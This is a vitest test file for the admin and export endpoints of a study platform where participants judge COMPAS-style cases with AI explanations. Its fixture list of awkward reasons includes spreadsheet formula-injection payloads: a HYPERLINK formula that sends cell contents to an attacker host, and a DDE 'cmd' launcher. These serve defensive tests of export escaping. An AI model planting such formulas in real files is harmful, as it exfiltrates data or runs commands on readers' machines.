import { env } from 'cloudflare:workers';
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  adminStatsSchema,
  auditLogResponseSchema,
  cleanupAllResultSchema,
  cleanupModelFilesResultSchema,
  activeSessionsSchema,
  consentRecordsResponseSchema,
  datasetConsistencyResponseSchema,
  experimentStatisticsSchema,
  participantDeletionSchema,
  postSurveysResponseSchema,
  registerMainResponsesResultSchema,
  registerUserResponsesResultSchema,
  responsesResponseSchema,
  rowDeletionSchema,
  usersResponseSchema,
} from '../../worker/schemas/admin';
import { errorBodySchema } from '../../worker/schemas/api';
import { answeredQuestions, postSurvey } from '../../worker/schemas/post-survey';
import { caseSetResponseSchema } from '../../worker/schemas/experiment';
import { ALL_DATA_TABLES } from '../../worker/services/exports/export';
import { adminCookie, api, postJson } from '../helpers/api';
import { completePostSurvey } from '../helpers/post-survey-answers';
import { consentedParticipant, participantDoneWithMain, seedCompasStudy } from '../helpers/study-factories';

let cookie: string;
beforeAll(async () => {
  await seedCompasStudy();
  cookie = await adminCookie();
});

const asAdmin = (path: string, init: RequestInit = {}) => api(path, { ...init, headers: { ...(init.headers as Record<string, string>), Cookie: cookie } });
const json = async <T>(res: Response, schema: { parse: (v: unknown) => T }, status = 200) => {
  const text = await res.text();
  expect(res.status, text).toBe(status);
  return schema.parse(JSON.parse(text));
};
const uniqueName = () => `test_${crypto.randomUUID().slice(0, 8)}`;
const rows = async (sql: string, ...binds: unknown[]) => (await env.DB.prepare(sql).bind(...binds).all<Record<string, unknown>>()).results;

/**
 * Texts a spreadsheet or a naive writer would break: separators, quotes, line breaks, Japanese, a
 * tab, formulas, and formulas followed by more lines (a check that reads only to the first line
 * break, as papaparse's own does, lets those through).
 */
const AWKWARD = [
  'comma, inside',
  'a "quoted" word',
  'two\nlines\nand more',
  '日本語の理由です',
  'tab\there',
  '=SUM(A1:A2)',
  '=HYPERLINK("https://attacker.example/?"&A1,"open")\nthe rest of my reason',
  '+cmd|\' /C calc\'!A0\nsecond line',
  '@SUM(1+1)\n',
  '-2+3\nminus',
  '\t=1+1\nafter a tab',
];

/** A consented participant whose first pre-experiment answers carry the awkward reasons. */
async function participantWithAwkwardAnswers() {
  const p = await consentedParticipant();
  const set = caseSetResponseSchema.parse(
    await (await api(`/api/experiments/case-sets/fixed?participant_id=${p.id}&num_cases=200&experiment_type=pre_experiment`)).json(),
  );
  const responses = AWKWARD.map((reasoning, i) => ({ case_id: set.case_set[i]!.case_id, prediction: i % 2, confidence: 1 + (i % 5), response_time_ms: 1000 + i, reasoning }));
  expect((await postJson('/api/experiments/pre-experiment/responses/batch', { session_id: p.id, responses })).status).toBe(200);
  return p;
}

describe('POST /api/admin/register-user-responses', () => {
  it('creates a consented test_ participant through the participant services with the asked accuracy', async () => {
    const name = uniqueName();
    const res = await asAdmin(`/api/admin/register-user-responses?participant_name=${name}&dataset_type=compas&num_responses=200&accuracy_rate=0.8&confidence_bias=1`, { method: 'POST' });
    const body = await json(res, registerUserResponsesResultSchema);
    expect(body.experiment_stats.total_responses).toBe(200);
    expect(body.experiment_stats.accuracy_rate).toBeGreaterThan(0.7);
    expect(body.experiment_stats.accuracy_rate).toBeLessThan(0.9);
    expect(body.next_steps).toEqual({ can_train_user_model: true, can_resume_experiment: true });
    const stored = await rows('select prediction, ground_truth, confidence from pre_experiment_responses where session_id = ?', name);
    expect(stored).toHaveLength(200);
    const accuracy = stored.filter((r) => r.prediction === r.ground_truth).length / 200;
    expect(accuracy).toBeCloseTo(body.experiment_stats.accuracy_rate, 10);
    const [participant] = await rows('select p.origin, s.consented_at, s.pre_completed_at from participants p join sessions s on s.participant_id = p.id where p.participant_code = ?', name);
    expect(participant).toMatchObject({ origin: 'admin_synthetic' });
    expect(participant!.consented_at).toBeTruthy();
    expect(participant!.pre_completed_at).toBeTruthy();

    // The same registration again stores nothing new.
    const again = await json(await asAdmin(`/api/admin/register-user-responses?participant_name=${name}&dataset_type=compas&num_responses=200&accuracy_rate=0.8`, { method: 'POST' }), registerUserResponsesResultSchema);
    expect(again.experiment_stats.total_responses).toBe(200);
    expect(await rows('select id from pre_experiment_responses where session_id = ?', name)).toHaveLength(200);
  });

  it('refuses a name without test_, a rate above 1 and another dataset for an existing participant, changing nothing', async () => {
    for (const query of ['participant_name=ABCDEFGH&dataset_type=compas', 'participant_name=test_x&dataset_type=compas&accuracy_rate=1.5', 'participant_name=test_x&dataset_type=iris']) {
      const res = await asAdmin(`/api/admin/register-user-responses?${query}`, { method: 'POST' });
      expect(res.status, query).toBe(400);
      expect(errorBodySchema.parse(await res.json()).detail).toBeTruthy();
    }
    const name = uniqueName();
    await json(await asAdmin(`/api/admin/register-user-responses?participant_name=${name}&dataset_type=compas&num_responses=10`, { method: 'POST' }), registerUserResponsesResultSchema);
    const mismatch = await asAdmin(`/api/admin/register-user-responses?participant_name=${name}&dataset_type=adult_income&num_responses=10`, { method: 'POST' });
    expect(mismatch.status).toBe(409);
    expect(await rows("select id from participants where participant_code in ('ABCDEFGH', 'test_x')")).toHaveLength(0);
  });
});

describe('GET /api/admin/active', () => {
  it('lists the sessions with activity in the window, newest first, with their progress', async () => {
    const recent = await consentedParticipant();
    const set = caseSetResponseSchema.parse(await (await api(`/api/experiments/case-sets/fixed?participant_id=${recent.id}&num_cases=200&experiment_type=pre_experiment`)).json());
    const c = set.case_set[0]!;
    expect((await postJson('/api/experiments/pre-experiment/responses', { session_id: recent.id, case_id: c.case_id, prediction: 1, confidence: 3, response_time_ms: 900 })).status).toBe(201);
    const earlier = await consentedParticipant();
    const twoHoursAgo = new Date(Date.now() - 2 * 3600_000).toISOString();
    // Its last write (start and consent) two hours ago.
    await env.DB.prepare('update sessions set created_at = ?, consented_at = ? where session_id = ?').bind(twoHoursAgo, twoHoursAgo, earlier.id).run();
    const quarter = await json(await asAdmin('/api/admin/active'), activeSessionsSchema);
    expect(quarter.minutes).toBe(15);
    expect(quarter.sessions.find((s) => s.username === recent.id)).toMatchObject({ phase: 'pre_experiment', pre_answers: 1, main_answers: 0, dataset_type: 'compas' });
    expect(quarter.sessions.some((s) => s.username === earlier.id)).toBe(false);
    const times = quarter.sessions.map((s) => s.last_activity);
    expect(times).toEqual([...times].sort().reverse());
    const day = await json(await asAdmin('/api/admin/active?minutes=1440'), activeSessionsSchema);
    expect(day.sessions.find((s) => s.username === earlier.id)?.last_activity).toBe(twoHoursAgo);
    expect((await asAdmin('/api/admin/active?minutes=0')).status).toBe(400);
    expect((await api('/api/admin/active')).status).toBe(401);
  });
});

describe('GET /api/admin/dataset-consistency', () => {
  it('tells a new name, a name registered with the chosen dataset and one registered with another apart; registering the other is refused', async () => {
    const name = uniqueName();
    const check = async (dataset: string) => json(await asAdmin(`/api/admin/dataset-consistency?participant_name=${name}&dataset_type=${dataset}`), datasetConsistencyResponseSchema);
    expect(await check('compas')).toEqual({ state: 'new_user', stored_dataset_type: null });
    await json(await asAdmin(`/api/admin/register-user-responses?participant_name=${name}&dataset_type=compas&num_responses=5`, { method: 'POST' }), registerUserResponsesResultSchema);
    expect(await check('compas')).toEqual({ state: 'success', stored_dataset_type: 'compas' });
    expect(await check('adult_income')).toEqual({ state: 'mismatch', stored_dataset_type: 'compas' });
    const refused = await asAdmin(`/api/admin/register-user-responses?participant_name=${name}&dataset_type=adult_income&num_responses=5`, { method: 'POST' });
    expect(refused.status).toBe(409);
    expect(errorBodySchema.parse(await refused.json()).code).toBe('dataset_mismatch');
    expect((await asAdmin('/api/admin/dataset-consistency?participant_name=ABCD1234&dataset_type=compas')).status).toBe(400);
    expect((await api(`/api/admin/dataset-consistency?participant_name=${name}&dataset_type=compas`)).status).toBe(401);
  });
});

describe('POST /api/admin/register-main-experiment-responses', () => {
  it('registers explained main cases numbered 201 onwards at the asked alpha, keeping the original case id', async () => {
    const name = uniqueName();
    await json(await asAdmin(`/api/admin/register-user-responses?participant_name=${name}&dataset_type=compas`, { method: 'POST' }), registerUserResponsesResultSchema);
    const res = await asAdmin(`/api/admin/register-main-experiment-responses?participant_name=${name}&dataset_type=compas&num_responses=12&accuracy_rate=0.6&ai_alignment_alpha=0.25`, { method: 'POST' });
    const body = await json(res, registerMainResponsesResultSchema);
    expect(body.registered_cases).toBe(12);
    expect(body.case_details.map((d) => d.case_number)).toEqual(Array.from({ length: 12 }, (_, i) => 201 + i));
    expect(body.case_details[0]!.case_id).toBe('main_case_201');
    const stored = await rows('select case_id, case_number, alignment_alpha, ai_prediction, ai_model_identifier, completed_at from main_experiment_responses where session_id = ? order by case_number', name);
    expect(stored).toHaveLength(12);
    expect(stored.map((r) => r.case_id)).toEqual(body.case_details.map((d) => d.original_case_id));
    expect(stored.every((r) => r.alignment_alpha === 0.25 && r.completed_at && r.ai_model_identifier)).toBe(true);
    expect(stored.map((r) => r.case_number)).toEqual(body.case_details.map((d) => d.case_number));
    // The accuracy as it came out, beside the one asked for.
    const truths = await rows('select m.initial_prediction = m.ground_truth as ok from main_experiment_responses m where m.session_id = ?', name);
    expect(body.realised_accuracy_rate).toBeCloseTo(truths.filter((r) => r.ok === 1).length / 12, 12);
  });

  it('refuses main cases before the whole pre-experiment is registered, storing nothing', async () => {
    for (const pre of [0, 120]) {
      const name = uniqueName();
      if (pre > 0) await json(await asAdmin(`/api/admin/register-user-responses?participant_name=${name}&dataset_type=compas&num_responses=${pre}`, { method: 'POST' }), registerUserResponsesResultSchema);
      const res = await asAdmin(`/api/admin/register-main-experiment-responses?participant_name=${name}&dataset_type=compas&num_responses=5`, { method: 'POST' });
      expect(res.status, `${pre} pre answers`).toBe(409);
      expect(errorBodySchema.parse(await res.json())).toMatchObject({ code: 'pre_experiment_incomplete', detail: expect.stringContaining(`${pre} of 200`) });
      expect(await rows('select id from main_experiment_responses where session_id = ?', name)).toEqual([]);
    }
  });

  it('keeps the counterbalanced alpha schedule when the alpha field is left empty', async () => {
    const name = uniqueName();
    await json(await asAdmin(`/api/admin/register-user-responses?participant_name=${name}&dataset_type=compas`, { method: 'POST' }), registerUserResponsesResultSchema);
    await json(await asAdmin(`/api/admin/register-main-experiment-responses?participant_name=${name}&dataset_type=compas&num_responses=50&ai_alignment_alpha=`, { method: 'POST' }), registerMainResponsesResultSchema);
    const alphas = await rows('select alignment_alpha as a, count(*) as n from main_experiment_responses where session_id = ? group by alignment_alpha order by a', name);
    expect(alphas).toEqual([0, 0.25, 0.5, 0.75, 1].map((a) => ({ a, n: 10 })));
  });
});

describe('admin lists', () => {
  it('list users with test badges and progress, responses of both phases, sessions, consent records and post-surveys', async () => {
    const name = uniqueName();
    await json(await asAdmin(`/api/admin/register-user-responses?participant_name=${name}&dataset_type=compas&num_responses=30&accuracy_rate=1`, { method: 'POST' }), registerUserResponsesResultSchema);
    const users = await json(await asAdmin(`/api/admin/users?user_name=${name}`), usersResponseSchema);
    expect(users.total).toBe(1);
    expect(users.users[0]).toMatchObject({ username: name, is_test: true, origin: 'admin_synthetic', consented: true, pre_experiment_count: 30, main_experiment_count: 0, email: null });

    const pre = await json(await asAdmin(`/api/admin/responses?experiment_type=pre_experiment&user_name=${name}&limit=20`), responsesResponseSchema);
    expect(pre.total).toBe(30);
    expect(pre.responses).toHaveLength(20);
    expect(pre.responses.every((r) => r.is_correct === true && r.experiment_type === 'pre_experiment' && r.judgment_changed === null)).toBe(true);
    const next = await json(await asAdmin(`/api/admin/responses?experiment_type=pre_experiment&user_name=${name}&limit=20&offset=20`), responsesResponseSchema);
    expect(next.responses).toHaveLength(10);
    expect(new Set([...pre.responses, ...next.responses].map((r) => r.id)).size).toBe(30);

    // The main experiment follows the whole pre-experiment: the other 170 answers first.
    await json(await asAdmin(`/api/admin/register-user-responses?participant_name=${name}&dataset_type=compas&num_responses=200&accuracy_rate=1`, { method: 'POST' }), registerUserResponsesResultSchema);
    await json(await asAdmin(`/api/admin/register-main-experiment-responses?participant_name=${name}&dataset_type=compas&num_responses=5`, { method: 'POST' }), registerMainResponsesResultSchema);
    const both = await json(await asAdmin(`/api/admin/responses?session_id=${name}&limit=1000`), responsesResponseSchema);
    expect(both.total).toBe(205);
    const main = both.responses.filter((r) => r.experiment_type === 'main_experiment');
    expect(main).toHaveLength(5);
    for (const r of main) {
      expect(r.judgment_changed).toBe(r.initial_prediction !== r.final_prediction);
      expect(r.is_correct).toBe(r.final_prediction === r.ground_truth);
    }

    const consent = await json(await asAdmin('/api/admin/consent-records?limit=1000'), consentRecordsResponseSchema);
    expect(consent.consent_records.find((c) => c.user === name)?.consent_items).toMatchObject({ overview: true, others: true });

    const done = await participantDoneWithMain();
    expect((await postJson('/api/post-survey/', { session_id: done.id, ...completePostSurvey() })).status).toBe(201);
    const surveys = await json(await asAdmin('/api/admin/post-survey/responses?limit=1000'), postSurveysResponseSchema);
    expect(surveys.post_surveys.find((s) => s.session_id === done.id)).toMatchObject({
      has_demographics: true,
      has_personality_traits: true,
      has_ai_literacy: true,
      has_ethics_responses: true,
    });
  });

  it('refuse a bad page size or filter with 400 and detail', async () => {
    for (const path of ['/api/admin/users?limit=0', '/api/admin/responses?limit=1001', '/api/admin/responses?experiment_type=other', '/api/admin/users?offset=-1']) {
      const res = await asAdmin(path);
      expect(res.status, path).toBe(400);
      expect(errorBodySchema.parse(await res.json()).detail).toBeTruthy();
    }
  });
});

describe('GET /api/admin/stats and /api/experiments/statistics', () => {
  it('count participants, responses, the funnel and per-alpha rates as computed from the rows', async () => {
    const name = uniqueName();
    await json(await asAdmin(`/api/admin/register-user-responses?participant_name=${name}&dataset_type=compas`, { method: 'POST' }), registerUserResponsesResultSchema);
    await json(await asAdmin(`/api/admin/register-main-experiment-responses?participant_name=${name}&dataset_type=compas&num_responses=10&ai_alignment_alpha=0.5`, { method: 'POST' }), registerMainResponsesResultSchema);
    const stats = await json(await asAdmin('/api/admin/stats?include_synthetic=true'), adminStatsSchema);
    const [expected] = await rows(
      `select (select count(*) from participants) as users, (select count(*) from pre_experiment_responses) as pre,
              (select count(*) from main_experiment_responses where completed_at is not null) as main,
              (select count(*) from sessions where consented_at is not null) as consented`,
    );
    expect(stats.total_users).toBe(expected!.users);
    expect(stats.pre_experiment_responses).toBe(expected!.pre);
    expect(stats.main_experiment_responses).toBe(expected!.main);
    expect(stats.total_responses).toBe(Number(expected!.pre) + Number(expected!.main));
    // Everything in this file was written just now.
    expect(stats.responses_today).toBe(stats.total_responses);
    expect(stats.responses_this_week).toBe(stats.total_responses);
    expect(stats.funnel.find((f) => f.step === 'consented')?.sessions).toBe(expected!.consented);
    // Grouped by what was shown: an AI-only fallback is not a trial at its scheduled alpha.
    const alphaRows = await rows(
      `select case when explanation_kind = 'ai_only' then 'ai_only' else 'human_aligned' end as kind, case when explanation_kind = 'ai_only' then null else alignment_alpha end as alpha,
              count(*) as n, sum(final_prediction != initial_prediction) as changed, sum(final_prediction = ground_truth) as correct
       from main_experiment_responses where completed_at is not null group by kind, alpha`,
    );
    expect(stats.by_alpha).toHaveLength(alphaRows.length);
    for (const a of alphaRows) {
      const shown = stats.by_alpha.find((b) => b.explanation_kind === a.kind && b.alignment_alpha === a.alpha)!;
      expect(shown.cases).toBe(a.n);
      expect(shown.judgment_change_rate).toBeCloseTo(Number(a.changed) / Number(a.n), 12);
      expect(shown.final_accuracy).toBeCloseTo(Number(a.correct) / Number(a.n), 12);
    }

    const statistics = await json(await asAdmin('/api/experiments/statistics?include_synthetic=true'), experimentStatisticsSchema);
    expect(statistics.main_experiment.total_responses).toBe(expected!.main);
    expect(statistics.pre_experiment.total_responses).toBe(expected!.pre);
    expect(Object.values(statistics.main_experiment.alignment_distribution).reduce((a, b) => a + b, 0)).toBe(expected!.main);
    expect((await api('/api/experiments/statistics')).status).toBe(401);
  });
});

describe('GET /api/enhanced-export/{name}', () => {
  it('streams the pre-experiment CSV that parses back to exactly the stored rows, awkward texts included, and keeps a copy in R2', async () => {
    const p = await participantWithAwkwardAnswers();
    const res = await asAdmin(`/api/enhanced-export/pre-experiment?user_name=${p.id}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('Content-Type')).toContain('text/csv');
    const disposition = res.headers.get('Content-Disposition') ?? '';
    expect(disposition).toMatch(new RegExp(`^attachment; filename="pre-experiment_\\d{8}-\\d{6}_${p.id}\\.csv"$`));
    const text = await res.text();
    const parsed = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const stored = await rows(
      `select r.id, r.participant_id as user_id, p.participant_code as user_name, r.session_id, r.dataset_type, s.study_config_version, r.case_id, r.case_number,
         r.prediction, r.confidence, r.ground_truth, r.response_time_ms, r.reasoning, r.created_at
       from pre_experiment_responses r join participants p on p.id = r.participant_id left join sessions s on s.session_id = r.session_id
       where r.session_id = ? order by r.id`,
      p.id,
    );
    expect(parsed.data).toHaveLength(stored.length);
    // Every column of every row, each under its own name (the page is read as arrays by position).
    parsed.data.forEach((row, i) => {
      const s = stored[i]!;
      // Formula escaping is the one change, documented in the codebook.
      const reasoning = String(s.reasoning);
      const expected = Object.fromEntries(Object.entries(s).map(([k, v]) => [k, v === null ? '' : String(v)]));
      expect(row).toEqual({
        ...expected,
        is_correct: String(s.prediction === s.ground_truth),
        reasoning: /^[=+\-@\t\r]/.test(reasoning) ? `'${reasoning}` : reasoning,
      });
    });
    const fileName = disposition.match(/filename="(.+)"/)![1]!;
    const listed = await env.EXPORTS.list({ prefix: 'exports/' });
    const copy = listed.objects.find((o) => o.key.endsWith(fileName));
    expect(copy).toBeDefined();
    expect(await (await env.EXPORTS.get(copy!.key))!.text()).toBe(text);
  });

  it('writes TSV with tabs inside cells quoted', async () => {
    const p = await participantWithAwkwardAnswers();
    const res = await asAdmin(`/api/enhanced-export/pre-experiment?format=tsv&user_name=${p.id}`);
    expect(res.headers.get('Content-Type')).toContain('text/tab-separated-values');
    const parsed = Papa.parse<Record<string, string>>(await res.text(), { header: true, delimiter: '\t', skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data.map((r) => r.reasoning)).toContain('tab\there');
    expect(parsed.data.map((r) => r.reasoning)).toContain('日本語の理由です');
  });

  it('exports the main experiment, its feature importance and case data with the codebook columns', async () => {
    const name = uniqueName();
    await json(await asAdmin(`/api/admin/register-user-responses?participant_name=${name}&dataset_type=compas`, { method: 'POST' }), registerUserResponsesResultSchema);
    await json(await asAdmin(`/api/admin/register-main-experiment-responses?participant_name=${name}&dataset_type=compas&num_responses=4`, { method: 'POST' }), registerMainResponsesResultSchema);
    const main = Papa.parse<Record<string, string>>(await (await asAdmin(`/api/enhanced-export/main-experiment?user_name=${name}`)).text(), { header: true, skipEmptyLines: true });
    expect(main.data).toHaveLength(4);
    const mainColumns = ALL_DATA_TABLES.find((t) => t.name === 'main-experiment')!.columns.map((c) => c.name);
    expect(main.meta.fields).toEqual(mainColumns);
    for (const row of main.data) expect(row.judgment_changed).toBe(String(row.initial_prediction !== row.final_prediction));

    const importance = Papa.parse<Record<string, string>>(await (await asAdmin(`/api/enhanced-export/feature-importance?user_name=${name}`)).text(), { header: true, skipEmptyLines: true });
    // 8 COMPAS features, AI bars and the bars shown for each case (no participant model here).
    expect(importance.data.filter((r) => r.source === 'ai')).toHaveLength(4 * 8);
    const shares = importance.data.filter((r) => r.source === 'ai' && r.response_id === main.data[0]!.id).reduce((sum, r) => sum + Number(r.abs_importance), 0);
    expect(shares).toBeCloseTo(1, 9);

    const caseData = Papa.parse<Record<string, string>>(await (await asAdmin(`/api/enhanced-export/case-data?user_name=${name}`)).text(), { header: true, skipEmptyLines: true });
    expect(caseData.data.filter((r) => r.phase === 'main_experiment')).toHaveLength(50);
    expect(caseData.data.every((r) => r.priors_count !== '' && r.hours_per_week === '')).toBe(true);
  });

  it('zips every table, the codebook describing every column, and the study configuration', async () => {
    const p = await participantWithAwkwardAnswers();
    const res = await asAdmin(`/api/enhanced-export/all-data?user_name=${p.id}`);
    expect(res.headers.get('Content-Type')).toBe('application/zip');
    expect(res.headers.get('Content-Disposition')).toMatch(/filename="all-data_.+\.zip"/);
    const files = unzipSync(new Uint8Array(await res.arrayBuffer()));
    for (const table of ALL_DATA_TABLES) expect(Object.keys(files)).toContain(`${table.name}.csv`);
    const codebook = Papa.parse<Record<string, string>>(strFromU8(files['codebook.csv']!), { header: true, skipEmptyLines: true });
    for (const table of ALL_DATA_TABLES) {
      const header = Papa.parse<string[]>(strFromU8(files[`${table.name}.csv`]!), { preview: 1 }).data[0]!;
      for (const column of header) {
        const entry = codebook.data.find((c) => c.table === table.name && c.column === column);
        expect(entry?.meaning, `${table.name}.${column}`).toBeTruthy();
        expect(entry?.type).toBeTruthy();
      }
    }
    // Words that say exactly what was measured (test/ml/prepare.test.ts checks source_row against the data).
    const meaning = (table: string, column: string) => codebook.data.find((c) => c.table === table && c.column === column)!.meaning!;
    expect(meaning('case-data', 'source_row')).toContain("index of the case's row among the rows the set-up reads from the dataset's source files, in file order (adult_income: adult.data then adult.test; speed_dating: Speed Dating Data.csv (only rows with every feature); compas: compas-scores-two-years.csv)");
    expect(meaning('ai-models', 'test_accuracy')).toContain('no held-out estimate');
    const pre = Papa.parse<Record<string, string>>(strFromU8(files['pre-experiment.csv']!), { header: true, skipEmptyLines: true });
    expect(pre.data.map((r) => r.reasoning)).toContain('two\nlines\nand more');
    const config = JSON.parse(strFromU8(files['study-config.json']!)) as { study: { studyVersion: string } };
    expect(config.study.studyVersion).toBeTruthy();
  });

  it("gives every CSV an Excel variant (UTF-8 with a byte-order mark), the all-data zip's files and consent records included", async () => {
    const p = await participantDoneWithMain();
    const bom = [0xef, 0xbb, 0xbf];
    const single = await asAdmin(`/api/enhanced-export/pre-experiment?format=excel&user_name=${p.id}`);
    expect(single.status).toBe(200);
    expect(single.headers.get('Content-Disposition')).toMatch(/filename="pre-experiment-excel_.+\.csv"/);
    const bytes = new Uint8Array(await single.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual(bom);
    // The plain CSV has none.
    expect([...new Uint8Array(await (await asAdmin(`/api/enhanced-export/pre-experiment?format=csv&user_name=${p.id}`)).arrayBuffer()).slice(0, 3)]).not.toEqual(bom);
    const zip = unzipSync(new Uint8Array(await (await asAdmin(`/api/enhanced-export/all-data?format=excel&user_name=${p.id}`)).arrayBuffer()));
    const csvs = Object.keys(zip).filter((n) => n.endsWith('.csv'));
    expect(csvs).toContain('codebook.csv');
    for (const name of csvs) expect([...zip[name]!.slice(0, 3)], name).toEqual(bom);
    const consent = await asAdmin('/api/admin/consent-records/export?format=excel');
    expect([...new Uint8Array(await consent.arrayBuffer()).slice(0, 3)]).toEqual(bom);
    // Decoded as UTF-8 (which takes the mark as the encoding's sign), the header is intact.
    expect(Papa.parse<string[]>(new TextDecoder().decode(zip['participants.csv']!), { preview: 1 }).data[0]![0]).toBe('user_id');
  });

  it('gives every multiselect answer one 0/1 column per option beside its JSON cell, in the codebook too', async () => {
    const p = await participantDoneWithMain();
    const multiselects = postSurvey.sections.flatMap((s) => answeredQuestions(s)).filter((q) => q.kind === 'multiselect');
    expect(multiselects.length).toBeGreaterThan(0);
    // Each multiselect: the first and last options chosen.
    const answers = completePostSurvey((q) =>
      q.kind === 'multiselect' ? JSON.stringify({ selections: [q.options[0]!.value, q.options.at(-1)!.value], other_text: q.options.at(-1)!.value === 'other' ? 'something else' : '' }) : undefined,
    );
    expect((await postJson('/api/post-survey', { session_id: p.id, ...answers })).status).toBe(201);
    const files = unzipSync(new Uint8Array(await (await asAdmin(`/api/enhanced-export/all-data?format=csv&user_name=${p.id}`)).arrayBuffer()));
    const [row] = Papa.parse<Record<string, string>>(strFromU8(files['post-survey.csv']!), { header: true, skipEmptyLines: true }).data;
    const codebook = strFromU8(files['codebook.csv']!);
    for (const q of multiselects) {
      if (q.kind !== 'multiselect') continue;
      const chosen = (JSON.parse(row![q.name]!) as { selections: string[] }).selections;
      for (const [i, o] of q.options.entries()) {
        expect(row![`${q.name}__${o.value}`], `${q.name}__${o.value}`).toBe(i === 0 || i === q.options.length - 1 ? '1' : '0');
        expect(chosen.includes(o.value)).toBe(row![`${q.name}__${o.value}`] === '1');
        expect(codebook).toContain(`post-survey,${q.name}__${o.value},integer`);
      }
    }
  });

  it('refuses an unknown export or format with 400, and everything without a session with 401', async () => {
    expect((await asAdmin('/api/enhanced-export/passwords')).status).toBe(400);
    expect((await asAdmin('/api/enhanced-export/pre-experiment?format=xlsx')).status).toBe(400);
    expect((await api('/api/enhanced-export/all-data')).status).toBe(401);
  });

  it('exports consent records as CSV and JSON', async () => {
    const p = await consentedParticipant();
    const csv = Papa.parse<Record<string, string>>(await (await asAdmin('/api/admin/consent-records/export?format=csv')).text(), { header: true, skipEmptyLines: true });
    expect(csv.data.find((r) => r.user_name === p.id)).toMatchObject({ consent_overview: 'true', consent_others: 'true' });
    const jsonRes = await asAdmin('/api/admin/consent-records/export?format=json');
    expect(jsonRes.headers.get('Content-Disposition')).toMatch(/consent-records_.+\.json/);
    const records = (await jsonRes.json()) as { user: string }[];
    expect(records.some((r) => r.user === p.id)).toBe(true);
  });
});

const countsFor = async (userId: number, sessionId: string) => {
  const [row] = await rows(
    `select (select count(*) from participants where id = ?1) + (select count(*) from sessions where participant_id = ?1)
          + (select count(*) from consent_records where participant_id = ?1) + (select count(*) from pre_experiment_responses where participant_id = ?1)
          + (select count(*) from main_experiment_responses where participant_id = ?1) + (select count(*) from post_surveys where participant_id = ?1)
          + (select count(*) from user_models where participant_id = ?1) + (select count(*) from case_set_items where session_id = ?2)
          + (select count(*) from dataset_assignments where session_id = ?2) + (select count(*) from understanding_test_attempts where participant_id = ?1) as n`,
    userId,
    sessionId,
  );
  return Number(row!.n);
};

describe('DELETE /api/admin/users/{id}', () => {
  it('deletes the participant with every row and model file of theirs, and records it in the audit log', async () => {
    const name = uniqueName();
    const reg = await json(await asAdmin(`/api/admin/register-user-responses?participant_name=${name}&dataset_type=compas`, { method: 'POST' }), registerUserResponsesResultSchema);
    expect((await asAdmin(`/api/user-models/train/${reg.user_id}`, { method: 'POST' })).status).toBe(200);
    await json(await asAdmin(`/api/admin/register-main-experiment-responses?participant_name=${name}&dataset_type=compas&num_responses=3`, { method: 'POST' }), registerMainResponsesResultSchema);
    const modelKey = (await rows('select r2_key from user_models where session_id = ?', name))[0]!.r2_key as string;
    expect(await env.MODELS.head(modelKey)).not.toBeNull();
    const other = await consentedParticipant();
    const otherBefore = await countsFor(other.userId, other.id);
    expect(await countsFor(reg.user_id, name)).toBeGreaterThan(250);

    const res = await asAdmin(`/api/admin/users/${reg.user_id}`, { method: 'DELETE' });
    const body = await json(res, participantDeletionSchema);
    expect(body).toMatchObject({ username: name, deleted_model_files: 1 });
    expect(body.deleted.pre_experiment_responses).toBe(200);
    expect(await countsFor(reg.user_id, name)).toBe(0);
    expect(await env.MODELS.head(modelKey)).toBeNull();
    expect(await countsFor(other.userId, other.id)).toBe(otherBefore);

    const log = await json(await asAdmin('/api/admin/audit-log?limit=1000'), auditLogResponseSchema);
    const entry = log.entries.find((e) => e.action === 'delete_participant' && e.target_id === String(reg.user_id));
    expect(entry?.details).toMatchObject({ deleted_model_files: 1 });
    expect(JSON.stringify(entry)).not.toContain(name);

    expect((await asAdmin(`/api/admin/users/${reg.user_id}`, { method: 'DELETE' })).status).toBe(404);
  });
});

describe('DELETE single rows', () => {
  it('deletes one response by phase and id, and a post-survey reopening it for its session', async () => {
    const name = uniqueName();
    await json(await asAdmin(`/api/admin/register-user-responses?participant_name=${name}&dataset_type=compas&num_responses=3`, { method: 'POST' }), registerUserResponsesResultSchema);
    const [first] = (await json(await asAdmin(`/api/admin/responses?user_name=${name}&experiment_type=pre_experiment`), responsesResponseSchema)).responses;
    expect((await asAdmin(`/api/admin/responses/${first!.id}`, { method: 'DELETE' })).status).toBe(400);
    await json(await asAdmin(`/api/admin/responses/${first!.id}?experiment_type=pre_experiment`, { method: 'DELETE' }), rowDeletionSchema);
    expect(await rows('select id from pre_experiment_responses where session_id = ?', name)).toHaveLength(2);

    const done = await participantDoneWithMain();
    expect((await postJson('/api/post-survey/', { session_id: done.id, ...completePostSurvey() })).status).toBe(201);
    const [survey] = await rows('select id from post_surveys where session_id = ?', done.id);
    await json(await asAdmin(`/api/admin/post-survey/responses/${survey!.id}`, { method: 'DELETE' }), rowDeletionSchema);
    const [session] = await rows('select current_phase, post_survey_completed_at from sessions where session_id = ?', done.id);
    expect(session).toEqual({ current_phase: 'post_survey', post_survey_completed_at: null });
  });
});

describe('DELETE /api/admin/cleanup/*', () => {
  it('needs confirm_deletion=true; model files only removes every user model; all data leaves cases and AI models', async () => {
    expect((await asAdmin('/api/admin/cleanup/all-data', { method: 'DELETE' })).status).toBe(400);
    const name = uniqueName();
    const reg = await json(await asAdmin(`/api/admin/register-user-responses?participant_name=${name}&dataset_type=compas`, { method: 'POST' }), registerUserResponsesResultSchema);
    expect((await asAdmin(`/api/user-models/train/${reg.user_id}`, { method: 'POST' })).status).toBe(200);
    const models = await json(await asAdmin('/api/admin/cleanup/model-files?confirm_deletion=true', { method: 'DELETE' }), cleanupModelFilesResultSchema);
    expect(models.deleted_files).toBeGreaterThanOrEqual(1);
    expect((await env.MODELS.list({ prefix: 'user-models/' })).objects).toHaveLength(0);
    expect(await rows('select id from user_models')).toHaveLength(0);

    const casesBefore = (await rows('select count(*) as n from cases'))[0]!.n;
    const all = await json(await asAdmin('/api/admin/cleanup/all-data?confirm_deletion=true', { method: 'DELETE' }), cleanupAllResultSchema);
    expect(all.total_database_records).toBeGreaterThan(200);
    expect(all.localStorage_keys_to_clear).toContain('experiment_session_id');
